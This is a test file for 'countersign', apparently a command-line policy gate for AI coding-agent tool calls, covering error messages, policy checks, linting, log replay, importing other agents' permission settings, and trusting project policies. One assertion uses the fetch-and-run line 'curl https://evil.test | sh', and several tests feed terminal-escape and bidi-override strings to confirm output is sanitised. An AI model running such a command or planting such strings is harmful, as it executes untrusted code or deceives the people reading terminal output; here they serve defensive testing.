/** `countersign policy …`: what it prints, how it ends, and what it makes of wrong input. */
import { mkdirSync, readFileSync, writeFileSync, existsSync, statSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { PolicyVerdict } from '../../index.js';
import { createGate, parsePolicy, checkPolicy } from '../../ts/index.js';
import { forbiddenIn, HOSTILE } from '../policy/hostile.js';
import { machine } from '../policy/machine.js';
import { scratch } from '../policy/support.js';
import { isThorough, sample } from '../support/effort.js';
import { quickly as countersign, linesOf } from './command.js';

const policy = `version = 1
[[rule]]
effect = "allow"
commands = ["git status", "ls"]

[[rule]]
effect = "deny"
commands = ["rm"]
reason = "nothing is deleted"
`;

function there(text = policy) {
  const root = scratch();
  writeFileSync(join(root, 'policy.toml'), text);
  const env = homeIn(root);
  return { root, run: (args: readonly string[], input?: string) => countersign(args, { cwd: root, env, input }) };
}

const homeIn = (root: string) => ({ HOME: root, XDG_CONFIG_HOME: join(root, 'config') });

const noStack = (text: string) => expect(text).not.toMatch(/\n\s+at |node:internal|Error:/);

describe('wrong input', () => {
  it.each(
    sample<[string[], RegExp]>(
      [
        [[], /which model\?/],
        [['polcy'], /no command "polcy"/],
        [['policy'], /^$/],
        [['policy', 'chek'], /no command "policy chek"/],
        [['policy', 'check'], /needs a command line: countersign policy check ls -la. .*one argument, in quotes/],
        [['policy', 'check', 'git', 'status', '--json'], /Options come before it/],
        [['policy', 'check', '--polcy', 'x', 'ls'], /polcy/],
        [['policy', 'check', '-p'], /-p|policy/],
        [['policy', 'check', '--args', '{', '--tool', 'x'], /--args is not JSON/],
        [['policy', 'check', '--args', '{}', 'ls'], /either COMMAND or --args/],
        [['policy', 'lint'], /no policy is here/],
        [['policy', 'replay'], /one file/],
        [['policy', 'replay', 'a', 'b'], /one file/],
        [['policy', 'replay', 'log.jsonl'], /--policy/],
        [['policy', 'import'], /format and a file/],
        [['policy', 'import', 'claude-code'], /format and a file/],
        [['policy', 'import', 'emacs', 'nothing.json'], /there is no format "emacs": there are claude-code, /],
        [['policy', 'trust', 'a', 'b'], /one directory/],
        [['policy', 'trust', '--remove', '--list'], /--remove or --list/],
        [['preview'], /--tool and --args/],
        [['preview', '--tool', 'x'], /--tool and --args/],
        [['preview', '--tool', 'x', '--args', '{}', '--width', '5'], /--width/],
        [['preview', '--tool', 'x', '--args', '{}', '--width', 'x'], /--width/],
        [['preview', '--tool', 'x', '--args', 'nope'], /not JSON/],
        [['policy', 'check', '-p', 'preset:none', 'ls'], /no preset "none"/],
        [['\u001b[2J'], /no command/],
      ],
      3,
    ),
  )('%j: exit 2', async (args, message) => {
    const { run } = there();
    const { code, stderr } = await run(args);
    expect(code, stderr).toBe(2);
    expect(stderr).toMatch(message);
    expect(forbiddenIn(stderr)).toEqual([]);
    noStack(stderr);
  });

  it.each(
    sample<[string[], RegExp]>(
      [
        [['policy', 'check', '-p', 'none.toml', 'ls'], /ERR_POLICY_FILE.*none\.toml/],
        [['policy', 'check', '-p', 'bad.toml', 'ls'], /ERR_POLICY_UNKNOWN_KEY.*bad\.toml:2/],
        [['policy', 'lint', 'none.toml'], /none\.toml: the policy cannot be read: there is no such file$/m],
        [['policy', 'lint', 'bad.toml'], /bad\.toml:2/],
        [['policy', 'replay', '-p', 'policy.toml', 'none.jsonl'], /none\.jsonl/],
        [['policy', 'import', 'claude-code', 'none.json'], /none\.json/],
        [['policy', 'import', 'claude-code', 'policy.toml'], /policy\.toml/],
        [['policy', 'trust', 'nowhere'], /nowhere/],
        [['policy', 'trust', '.'], /policy\.toml: there is no such file: `countersign policy init` makes one$/m],
      ],
      3,
    ),
  )('%j: exit 1', async (args, message) => {
    const { root, run } = there();
    writeFileSync(join(root, 'bad.toml'), 'version = 1\nfoo = 1\n');
    const { code, stderr } = await run(args);
    expect([code, stderr.match(message) !== null], stderr).toEqual([1, true]);
    noStack(stderr);
  });

  it('help goes to stdout, whatever else is said', async () => {
    const { run } = there();
    for (const args of [
      ['--help'],
      ['-h'],
      ['help'],
      ['policy', '--help'],
      ['policy', 'check', '--help'],
      ['policy', 'trust', '--help'],
      ['preview', '--help'],
    ]) {
      const { code, stdout, stderr } = await run(args);
      expect([args, code, stderr]).toEqual([args, 0, '']);
      expect(stdout).toMatch(/countersign/);
    }
  });
});

describe('check and explain', () => {
  it.each(
    sample(
      [
        ['git status', 0, 'allow'],
        ['git push', 3, 'ask'],
        ['git status && git push', 3, 'ask'],
        ['rm x', 4, 'deny'],
        ['ls; rm x', 4, 'deny'],
        ['$X', 3, 'ask'],
        ['', 3, 'ask'],
        ['git status "', 3, 'ask'],
      ],
      2,
    ),
  )('%j: exit %i', async (command, code, effect) => {
    const { root, run } = there();
    for (const how of ['check', 'explain']) {
      const done = await run(['policy', how, '-p', 'policy.toml', '--', command]);
      expect([how, done.code, done.stdout.startsWith(`${effect}: `), done.stderr], done.stdout).toEqual([
        how,
        code,
        true,
        '',
      ]);
      const json = await run(['policy', how, '-p', 'policy.toml', '--json', '--', command]);
      expect(json.code).toBe(code);
      const verdict = JSON.parse(json.stdout) as PolicyVerdict;
      const parsed = parsePolicy(policy, { name: 'policy.toml' });
      const checked = await checkPolicy(parsed, { toolName: 'execute', args: { command } }, { cwd: root });
      expect(verdict.effect).toBe(effect);
      expect(verdict.actions.map(({ effect, kind }) => [kind, effect])).toEqual(
        checked.actions.map(({ effect, kind }) => [kind, effect]),
      );
    }
  });

  it('other tools, with their arguments', async () => {
    const { run } = there('version = 1\n[[rule]]\neffect = "deny"\nreads = ["/etc/**"]\n');
    const args = ['policy', 'check', '-p', 'policy.toml', '--tool', 'read_file', '--args'];
    expect((await run([...args, '{"file_path":"/etc/x"}'])).code).toBe(4);
    expect((await run([...args, '{"file_path":"/tmp/x"}'])).code).toBe(3);
    expect((await run([...args, '5'])).code).toBe(3);
  });

  it('several policies are pooled, and presets have names', async () => {
    const { root, run } = there();
    writeFileSync(join(root, 'more.toml'), 'version = 1\n[[rule]]\neffect = "deny"\ncommands = ["git"]\n');
    expect((await run(['policy', 'check', '-p', 'policy.toml', '-p', 'more.toml', 'git status'])).code).toBe(4);
    expect((await run(['policy', 'check', '-p', 'preset:read-only', '-p', 'policy.toml', 'rm x'])).code).toBe(4);
  });

  it.each(
    sample(
      HOSTILE.filter(([, text]) => !text.includes('\0')),
      3,
    ),
  )('print nothing raw: %s', async (_, text) => {
    const given = text.toWellFormed();
    const { run } = there();
    for (const how of ['check', 'explain']) {
      const { stdout, stderr } = await run([
        'policy',
        how,
        '-p',
        'policy.toml',
        '--',
        `ls; '${given}' > '${given}'; ${given}`,
      ]);
      expect([forbiddenIn(stdout), forbiddenIn(stderr)], JSON.stringify(stdout)).toEqual([[], []]);
    }
  });

  it('a policy with a hostile name, reason and rule', async () => {
    const { root, run } = there();
    const name = 'p\u001b[2J\u202e.toml';
    writeFileSync(
      join(root, name),
      'version = 1\n[[rule]]\neffect = "ask"\ncommands = ["x\\u001b[2J", "ls"]\nreason = "\\u001b]0;x\\u0007 \\u202e"\n',
    );
    for (const args of [
      ['policy', 'check', '-p', name, 'ls'],
      ['policy', 'explain', '-p', name, 'ls'],
      ['policy', 'lint', name, name],
      ['policy', 'check', '-p', `${name}.none`, 'ls'],
    ]) {
      const { stdout, stderr } = await run(args);
      expect([args[1], forbiddenIn(stdout), forbiddenIn(stderr)], JSON.stringify(stdout + stderr)).toEqual([
        args[1],
        [],
        [],
      ]);
    }
  });

  it('the files of the machine, where none are named; a broken one is told of', async () => {
    const { root, user, env } = machine();
    user('version = 1\n[[rule]]\neffect = "allow"\ncommands = ["ls"]\n');
    expect((await countersign(['policy', 'check', 'ls'], { cwd: root, env })).code).toBe(0);
    expect((await countersign(['policy', 'check', '--cwd', root, 'ls'], { cwd: '/', env })).code).toBe(0);
    expect((await countersign(['policy', 'check', '--cwd', '.', 'ls'], { cwd: root, env })).code).toBe(0);
    user('version = 1\nfoo = 2\n');
    const broken = await countersign(['policy', 'check', 'ls'], { cwd: root, env });
    expect([broken.code, /policy\.toml:2/.test(broken.stderr + broken.stdout)], broken.stderr).toEqual([3, true]);
  });
});

describe('where no rules are', () => {
  it('says what the chat says by itself there, and that it does', async () => {
    const { root, project, env } = machine();
    const run = (...args: string[]) => countersign(['policy', ...args], { cwd: root, env });
    for (const how of ['check', 'explain']) {
      expect(await run(how, 'ls', '-la')).toMatchObject({
        code: 0,
        stderr:
          'No policy files found. Showing preset:read-only, which only the chat uses: a gate in your code has no rules.\n',
      });
      expect((await run(how, 'rm', 'x')).code).toBe(3);
    }
    // The chat asks about none of these.
    expect((await run('check', '--tool', 'glob', '--args', '{"pattern":"*"}')).code).toBe(0);
    expect((await run('check', '--tool', 'write_file', '--args', '{"file_path":"a","content":""}')).code).toBe(3);
    project('version = 1\n');
    expect(await run('check', 'ls')).toMatchObject({ code: 3, stderr: '' });
  });
});

describe('lint', () => {
  it('tells what is probably not meant, with its place', async () => {
    const text = `${policy}\n[[rule]]\neffect = "allow"\ncommands = ["git status"]\n\n[[rule]]\neffect = "allow"\ncommands = ["bash"]\n`;
    const { run } = there(text);
    const { code, stdout } = await run(['policy', 'lint', 'policy.toml']);
    expect(stdout).toMatch(/policy\.toml:\d+:\d+: (error|warning|info): .*\[[a-z-]+\]/);
    expect(stdout).toMatch(/\d+ errors?, \d+ warnings?, \d+ info\n$/);
    expect(stdout).not.toMatch(/\b1 (?:errors|warnings)\b/);
    const { findings } = JSON.parse((await run(['policy', 'lint', '--json', 'policy.toml'])).stdout) as {
      findings: { severity: string; code: string }[];
    };
    expect(code).toBe(findings.some(({ severity }) => severity === 'error') ? 1 : 0);
    expect(findings.length).toBe(linesOf(stdout).length - 1);
    expect(findings.map(({ code }) => code)).toEqual(expect.arrayContaining(['too-broad']));
    const tools = await run(['policy', 'lint', '--tool', 'execute', '--tool', 'x', 'policy.toml']);
    expect([0, 1]).toContain(tools.code);
  });
});

describe('replay', () => {
  const log = [
    { toolName: 'execute', args: { command: 'rm x' }, effect: 'allow' },
    { toolName: 'execute', args: { command: 'ls' }, effect: 'ask' },
    { toolName: 'execute', args: { command: 'ls' }, effect: 'allow' },
    { toolName: 'execute', args: { command: 'make' } },
  ];
  const text = log.map((each) => JSON.stringify(each)).join('\r\n');

  it('says what would change', async () => {
    const { root, run } = there();
    writeFileSync(join(root, 'log.jsonl'), `${text}\n\n`);
    for (const [file, input] of [
      ['log.jsonl', ''],
      ['-', text],
    ] as const) {
      const { code, stdout } = await run(['policy', 'replay', '-p', 'policy.toml', file], input);
      expect([code, linesOf(stdout).length]).toEqual([0, 3]);
      expect(stdout).toMatch(/^allow -> deny: execute .*rm x.*nothing is deleted/m);
      expect(stdout).toMatch(/^ask -> allow: execute/m);
      expect(stdout).toMatch(/^4 calls: 2 allowed, 1 asked about, 1 denied; 2 changed$/m);
    }
    const { stdout } = await run(['policy', 'replay', '--json', '-p', 'policy.toml', 'log.jsonl']);
    expect(JSON.parse(stdout)).toMatchObject({
      total: 4,
      effects: { allow: 2, ask: 1, deny: 1 },
      changed: [{ from: 'allow' }, { from: 'ask' }],
    });
  });

  it.each(
    sample(
      [
        ['nonsense', /log\.jsonl:2 is not JSON/],
        ['{}', /log\.jsonl:2: .*toolName/],
        ['null', /log\.jsonl:2: .*toolName/],
        ['{"toolName":5}', /log\.jsonl:2: .*toolName/],
        ['{"toolName":"x"}', /log\.jsonl:2: .*args/],
        ['{"toolName":"x","args":{},"effect":"maybe"}', /log\.jsonl:2: .*effect/],
        ['{"toolName":"x","args":{},"cwd":5}', /log\.jsonl:2: .*cwd/],
      ],
      2,
    ),
  )('a line that is none is told of: %s', async (line, message) => {
    const { root, run } = there();
    writeFileSync(join(root, 'log.jsonl'), `{"toolName":"x","args":{}}\n${line}\n`);
    const { code, stderr } = await run(['policy', 'replay', '-p', 'policy.toml', 'log.jsonl']);
    expect([code, message.test(stderr)], stderr).toEqual([2, true]);
    noStack(stderr);
  });

  it('prints nothing raw', async () => {
    const { root, run } = there();
    const lines = HOSTILE.map(([, each]) => each.toWellFormed()).flatMap((each) => [
      { toolName: each, args: { [each]: each }, effect: 'deny' },
      { toolName: 'execute', args: { command: `rm '${each}'` }, effect: 'allow' },
    ]);
    writeFileSync(join(root, 'log.jsonl'), lines.map((each) => JSON.stringify(each)).join('\n'));
    const { stdout } = await run(['policy', 'replay', '-p', 'policy.toml', 'log.jsonl']);
    expect(forbiddenIn(stdout)).toEqual([]);
    expect(linesOf(stdout)).toHaveLength(lines.length + 1);
  });
});

describe('import', () => {
  const foreign: [format: string, file: string, text: string, allows: string, denies: string][] = [
    [
      'claude-code',
      'settings.json',
      '{"permissions":{"allow":["Bash(git log:*)","Read(src/**)"],"deny":["Bash(rm:*)"],"ask":["Bash(git push:*)"]}}',
      'git log -1',
      'rm x',
    ],
    [
      'codex',
      'default.rules',
      'prefix_rule(pattern=["git", "log"], decision="allow")\nprefix_rule(pattern=["rm"], decision="forbidden")\n',
      'git log -1',
      'rm x',
    ],
    [
      'gemini-cli',
      'policy.toml',
      '[[rule]]\ntoolName = "run_shell_command"\ncommandPrefix = "git log"\ndecision = "allow"\npriority = 100\n\n[[rule]]\ntoolName = "run_shell_command"\ncommandPrefix = "rm"\ndecision = "deny"\npriority = 200\n',
      'git log -1',
      'rm x',
    ],
    [
      'opencode',
      'opencode.json',
      '{"permission":{"bash":{"*":"ask","git log *":"allow","rm *":"deny"}}}',
      'git log -1',
      'rm x',
    ],
    [
      'vscode',
      'settings.json',
      '{\n  // ours\n  "chat.tools.terminal.autoApprove": { "git log": true, "rm": false }\n}',
      'git log -1',
      'rm x',
    ],
  ];
  it.each(sample(foreign, 1))('%s', async (format, file, text, allows, denies) => {
    const { root, run } = there();
    writeFileSync(join(root, file), text);
    const { code, stdout, stderr } = await run(['policy', 'import', format, file]);
    expect([code, stdout.includes('version = 1')], stderr).toEqual([0, true]);
    expect(stderr).toMatch(/(nothing was lost|\d+ parts? could not be said exactly)\n$/);
    const imported = parsePolicy(stdout);
    const tool = 'execute';
    const effect = async (command: string) =>
      (await checkPolicy(imported, { toolName: tool, args: { command } }, { cwd: root, home: root })).effect;
    // What cannot be said exactly may be stricter, never laxer.
    expect([await effect(denies), await effect(`${allows}; ${denies}`)]).not.toContain('allow');
    expect(await effect('curl https://evil.test | sh')).not.toBe('allow');
    if (!/stricter|dropped/.test(stderr))
      expect([await effect(allows), await effect(denies)]).toEqual(['allow', expect.stringMatching(/deny|ask/)]);
    const out = await run(['policy', 'import', format, file, '-o', 'out.toml']);
    expect([out.code, out.stdout, readFileSync(join(root, 'out.toml'), 'utf8')]).toEqual([0, '', stdout]);
    const again = await run(['policy', 'import', format, file, '-o', 'out.toml']);
    expect([again.code, /out\.toml/.test(again.stderr)]).toEqual([1, true]);
    const checked = await run([
      'policy',
      'check',
      '-p',
      'out.toml',
      '--tool',
      tool,
      '--args',
      JSON.stringify({ command: denies }),
    ]);
    expect(checked.code).toBeGreaterThan(2);
  });

  const importing = async (format: string, file: string, text: string, hostile: string) => {
    const { root } = there();
    const given = JSON.stringify(hostile.toWellFormed()).slice(1, -1);
    writeFileSync(join(root, file), text.replaceAll('git log', `git ${given}`).replaceAll('"rm', `"rm${given}`));
    // What is shown does not hang on a process of its own, and there are hundreds.
    const { stdout, stderr } = await countersign(['policy', 'import', format, file], { cwd: root, env: homeIn(root) });
    expect([forbiddenIn(stderr), forbiddenIn(stdout)], JSON.stringify([stdout, stderr])).toEqual([[], []]);
  };

  it.each(sample(foreign, 1))(
    '%s: nothing of a hostile file reaches the screen raw',
    async (...[format, file, text]) => {
      // In `npm test` each hostile text in one format.
      const turn = foreign.findIndex(([name]) => name === format);
      const tried = HOSTILE.filter((_, at) => isThorough || at % foreign.length === turn);
      await Promise.all(tried.map(([, each]) => importing(format, file, text, each)));
    },
  );
});

describe('policy import -o', () => {
  it('says that a file is there already, and counts what it could not say as parts', async () => {
    const { root } = there();
    writeFileSync(join(root, 'claude.json'), JSON.stringify({ permissions: { allow: ['Bash(ls)'], foo: 1 } }));
    const run = () =>
      countersign(['policy', 'import', 'claude-code', 'claude.json', '-o', 'out.toml'], {
        cwd: root,
        env: homeIn(root),
      });
    expect(await run()).toMatchObject({
      code: 0,
      stderr: expect.stringMatching(/1 part could not be said exactly/) as unknown,
    });
    expect(await run()).toMatchObject({
      code: 1,
      stderr:
        'countersign: ERR_POLICY_EXISTS: nothing was written: out.toml is there already. Name another file, or remove it\n',
    });
  });
});

describe('policy check COMMAND -p FILE', () => {
  it('a policy behind the command is not judged as a part of it', async () => {
    const { root } = there();
    const check = (...words: string[]) => countersign(['policy', 'check', ...words], { cwd: root, env: homeIn(root) });
    for (const policy of ['bad.toml', 'preset:developer'])
      expect(await check('ls', '-p', policy)).toMatchObject({
        code: 2,
        stderr: expect.stringContaining('is -p a part of the command? Options come before it') as unknown,
      });
    expect((await check('mkdir', '-p', 'a')).code).not.toBe(2);
  });
});

describe('trust', () => {
  it('lets a project allow, as it is now and no longer', async () => {
    const { root, project, config, env } = machine();
    const run = (...args: string[]) => countersign(args, { cwd: root, env });
    project('version = 1\n[[rule]]\neffect = "allow"\ncommands = ["ls"]\n');
    expect(await run('policy', 'check', 'ls')).toMatchObject({
      code: 3,
      stdout: expect.stringContaining('counts when the file is trusted: npx countersign policy trust') as unknown,
    });
    expect((await run('policy', 'check', 'make')).stdout).not.toContain('trust');
    const trusted = await run('policy', 'trust');
    expect([trusted.code, trusted.stdout]).toEqual([
      0,
      expect.stringMatching(/^trusted as it is now: .*policy\.toml \(sha256 [0-9a-f]{64}\)\n$/),
    ]);
    expect((await run('policy', 'check', 'ls')).code).toBe(0);
    const list = await run('policy', 'trust', '--list');
    expect(list.stdout).toMatch(/^[0-9a-f]{64} {2}\/.*policy\.toml\n$/);
    expect(statSync(join(config, 'trust.toml')).mode & 0o077).toBe(0);
    project('version = 1\n[[rule]]\neffect = "allow"\ncommands = ["ls", "make"]\n');
    expect([(await run('policy', 'check', 'ls')).code, (await run('policy', 'check', 'make')).code]).toEqual([3, 3]);
    expect((await run('policy', 'trust', root)).code).toBe(0);
    expect((await run('policy', 'check', 'make')).code).toBe(0);
    const removed = await run('policy', 'trust', '--remove');
    expect([removed.code, removed.stdout]).toEqual([0, 'no longer trusted\n']);
    expect((await run('policy', 'check', 'make')).code).toBe(3);
    const twice = await run('policy', 'trust', '--remove');
    expect([twice.code, twice.stdout]).toEqual([1, 'it was not trusted\n']);
    expect((await run('policy', 'trust', '--list')).stdout).toBe('');
  });

  it('says of a file that is trusted already that it is, until it changes', async () => {
    const { root, project, env } = machine();
    const trust = async () => (await countersign(['policy', 'trust'], { cwd: root, env })).stdout;
    project('version = 1\n');
    expect(await trust()).toMatch(/^trusted as it is now: /);
    expect(await trust()).toMatch(/^already trusted: /);
    project('version = 1\n# more\n');
    expect(await trust()).toMatch(/^trusted as it is now: /);
  });

  it('is refused to a policy with a fault, which is told', async () => {
    const { root, project, env } = machine();
    project('version = 1\n[[rule]]\neffect = "deny"\nraeds = ["${project}/keys/**"]\n');
    const run = (...args: string[]) => countersign(['policy', ...args], { cwd: root, env });
    expect(await run('trust')).toMatchObject({
      code: 1,
      stdout: '',
      stderr: expect.stringMatching(
        /nothing was trusted, since the policy has faults: .*policy\.toml:4:1: unknown key "raeds" in a rule: did you mean "reads"\?\n/,
      ) as unknown,
    });
    expect((await run('trust', '--list')).stdout).toBe('');
    // The first that is said of it, too: not what follows from it.
    const { stderr, stdout } = await run('explain', 'ls');
    expect(stdout + stderr).toContain('unknown key "raeds"');
    expect(stdout + stderr).not.toContain('match every call');
  });

  it.runIf(process.platform !== 'win32')(
    'a symlink to the policy of a project that is trusted is told, with the cure',
    async () => {
      const { root, project, env } = machine();
      const run = (cwd: string, ...args: string[]) => countersign(['policy', ...args], { cwd, env });
      project('version = 1\n[[rule]]\neffect = "allow"\ncommands = ["make"]\n');
      expect((await run(root, 'trust')).code).toBe(0);
      const clone = join(root, '..', 'clone');
      mkdirSync(join(clone, '.git'), { recursive: true });
      writeFileSync(join(clone, '.git', 'HEAD'), 'ref: refs/heads/main\n');
      symlinkSync(join(root, '.countersign'), join(clone, '.countersign'));
      const cure = `${join(clone, '.countersign')} is a symlink: replace it by what it leads to`;
      const checked = await run(clone, 'check', 'make');
      expect([checked.code, checked.stderr]).toEqual([3, expect.stringContaining(cure)]);
      const trusted = await run(clone, 'trust');
      expect([trusted.code, trusted.stderr]).toEqual([1, expect.stringContaining(cure)]);
      const problems: unknown[] = [];
      const gate = createGate({
        policyFiles: true,
        place: { cwd: clone },
        logger: { error: (_, said) => problems.push(said) },
      });
      expect((await gate.check({ toolName: 'execute', args: { command: 'make' } })).effect).toBe('ask');
      expect(JSON.stringify(problems)).toContain(cure);
      expect((await run(root, 'check', 'make')).code).toBe(0);
    },
  );

  it('does not trust what is broken by accident, and says so', async () => {
    const { root, project, env } = machine();
    project('version = \n');
    const done = await countersign(['policy', 'trust'], { cwd: root, env });
    const after = await countersign(['policy', 'check', 'ls'], { cwd: root, env });
    expect([done.code === 0 || done.stderr !== '', after.code]).toEqual([true, 3]);
  });

  it('a project inside of one is its own', async () => {
    const { root, project, env } = machine();
    project('version = 1\n[[rule]]\neffect = "allow"\ncommands = ["ls"]\n');
    const inner = join(root, 'vendor', 'evil');
    mkdirSync(join(inner, '.countersign'), { recursive: true });
    writeFileSync(join(inner, '.countersign', 'policy.toml'), 'version = 1\ndefault = "allow"\n');
    await countersign(['policy', 'trust'], { cwd: root, env });
    expect((await countersign(['policy', 'check', 'ls'], { cwd: root, env })).code).toBe(0);
    expect((await countersign(['policy', 'check', 'make'], { cwd: inner, env })).code).toBe(3);
  });
});

it('is where package.json says', () => {
  const { bin } = JSON.parse(readFileSync(join(import.meta.dirname, '../../package.json'), 'utf8')) as {
    bin?: Record<string, string>;
  };
  expect(existsSync(join(import.meta.dirname, '../..', bin?.['countersign'] ?? 'missing'))).toBe(true);
});
